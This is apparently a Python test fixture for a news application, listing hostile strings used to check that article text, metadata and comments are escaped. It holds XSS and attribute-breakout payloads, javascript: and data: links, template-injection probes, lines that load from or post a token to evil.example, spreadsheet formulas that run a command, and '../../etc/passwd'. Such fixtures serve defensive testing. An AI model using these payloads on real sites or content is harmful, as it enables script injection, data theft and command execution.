"""Hostile strings: what news, its metadata or a comment may hold to become markup, script, style or a link."""
# ruff: noqa: E501

_HANDLERS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onclick", "onanimationstart", "onpointerenter")
_DO = "window.__ran=1"

_SCRIPTS = [
    f"<script>{_DO}</script>",
    f"<SCRIPT>{_DO}</SCRIPT>",
    f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    f"</script><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"</textarea><script>{_DO}</script>",
    f"</style><script>{_DO}</script>",
    f"--><script>{_DO}</script>",
    f"]]><script>{_DO}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=/static/article.js></script>",
    f"<script type=module>{_DO}</script>",
    f"<svg><script>{_DO}</script></svg>",
    f"<math><mtext></mtext><mglyph><svg><mtext><style><path id='</style><img onerror={_DO} src>'>",
    f"\ufeff<script>{_DO}</script>",
    f"<script\x00>{_DO}</script>",
    f"<script\n>{_DO}</script>",
    f"<!--<script>{_DO}</script>-->",
    f"<![CDATA[<script>{_DO}</script>]]>",
    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>",
]
_ELEMENTS = [
    f"<{tag} {handler}={_DO} {more}>"
    for handler, tags in zip(
        _HANDLERS,
        (
            [("img", "src=x"), ("video", "src=x"), ("audio", "src=x"), ("object", "data=x"), ("input", "type=image src=x")],
            [("svg", ""), ("body", ""), ("iframe", "src=x"), ("style", ""), ("link", "rel=stylesheet href=/static/desk.css")],
            [("a", "href=#"), ("div", ""), ("b", ""), ("td", "")],
            [("input", "autofocus"), ("select", "autofocus"), ("textarea", "autofocus"), ("a", "href=# tabindex=1 autofocus")],
            [("details", "open"), ("dialog", "open")],
            [("button", ""), ("form", ""), ("label", "")],
            [("p", "class=lit"), ("xss", "id=x")],
            [("main", ""), ("nav", "")],
        ),
        strict=True,
    )
    for tag, more in tags
]  # fmt: skip
_OUT_OF_ATTRIBUTES = [
    f"{quote}{close}{rest}"
    for quote in ('"', "'", "`", "", "&quot;", "&#34;")
    for close in (">", " ", "/>")
    for rest in (f"<img src=x onerror={_DO}>", f"onmouseover={_DO} x=")
]
_LINKS = [
    f"{scheme}{rest}"
    for scheme in (
        "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\x01javascript:", "vbscript:",
        "data:text/html,", "data:text/html;base64,", "blob:", "file:///", "jar:", "view-source:javascript:",
    )
    for rest in (f"{_DO}", f"//%0a{_DO}", f"<script>{_DO}</script>")
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "{{config}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('return 1')()}}", "%(x)s", "{0.__class__}",
    "{#", "{%raw%}", "{{ request.app.state.gate.secret }}",
]  # fmt: skip
_STYLES = [
    "<style>body{background:url(//evil.example)}</style>", "<p style=background:url(//evil.example)>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<form action=//evil.example><input name=token><button>", "<link rel=prefetch href=//evil.example>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'>", "<embed src=//evil.example>", "<img src=//evil.example/pixel>",
    "<svg><use href=//evil.example#x></svg>", "<svg><animate onbegin=window.__ran=1 attributeName=x dur=1s>",
    "<marquee onstart=window.__ran=1>", "<keygen autofocus onfocus=window.__ran=1>", "<plaintext>", "<xmp>", "<template>",
]  # fmt: skip
_ODD = [
    "&lt;script&gt;window.__ran=1&lt;/script&gt;", "&#x3c;script&#x3e;", "%3Cscript%3E", "\\u003cscript\\u003e", "＜script＞",
    "+ADw-script+AD4-", "\u202eevil\u202c", "a\u0000b", "\ud800<img src=x onerror=window.__ran=1>", "<\u0130mg onerror=x>",
    "=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1+9)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "../../etc/passwd",
    "e1:trigger e2:trigger\" data-marks=\"x", "constructor", "__proto__", "words-e1", "main\" id=\"main", "a b:c d",
]  # fmt: skip

PAYLOADS = [*_SCRIPTS, *_ELEMENTS, *_OUT_OF_ATTRIBUTES, *_LINKS, *_TEMPLATES, *_STYLES, *_ODD]

#: Some of each kind: every way out of an attribute and every scheme, though not with everything that can follow it.
FEW = [
    *_SCRIPTS[::2], *_ELEMENTS[::3], *_OUT_OF_ATTRIBUTES[::5], *(link for n, link in enumerate(_LINKS) if n % 3 == n // 3 % 3),
    *_TEMPLATES, *_STYLES[::2], *_ODD,
]  # fmt: skip
